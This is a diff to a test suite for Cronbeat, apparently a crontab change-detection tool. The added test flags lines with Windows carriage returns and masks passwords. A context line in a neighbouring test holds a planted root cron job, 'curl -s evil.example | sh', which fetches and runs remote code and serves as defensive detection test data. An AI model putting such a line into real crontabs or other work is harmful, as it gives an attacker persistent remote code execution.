@@ -217,6 +217,18 @@ describe('snapshot differences', () => {
   const snap = (text: string) => snapshotJobs('/etc/crontab', null, parseCrontab(text, 'system'));
   const before = snap('0 3 * * * root /backup.sh --password=a\n*/5 * * * * www /poll.sh\n');
 
+  it('sees a line given Windows line ends as altered: cron hands the carriage return to the shell, and the job no longer runs', () => {
+    const dos = snap('0 3 * * * root /backup.sh --password=a\r\n*/5 * * * * www /poll.sh\n');
+    expect(diffSnapshots(before, dos)).toEqual([
+      {
+        kind: 'altered',
+        user: 'root',
+        text: '0 3 * * * /backup.sh --password=*** (and a carriage return, which cron passes to the shell with the command)',
+        previous: '0 3 * * * /backup.sh --password=***',
+      },
+    ]);
+  });
+
   it('sees a line Cronbeat cannot read as a job but some cron runs (Debian runs 5/20 at :05), as it is written, with its user', () => {
     const planted = snap('0 3 * * * root /backup.sh --password=a\n*/5 * * * * www /poll.sh\n5/20 * * * * root curl -s evil.example | sh\n@DAILY nobody /x.sh --token=abc\n');
     expect(diffSnapshots(before, planted).map((c) => [c.kind, c.user, c.text])).toEqual([
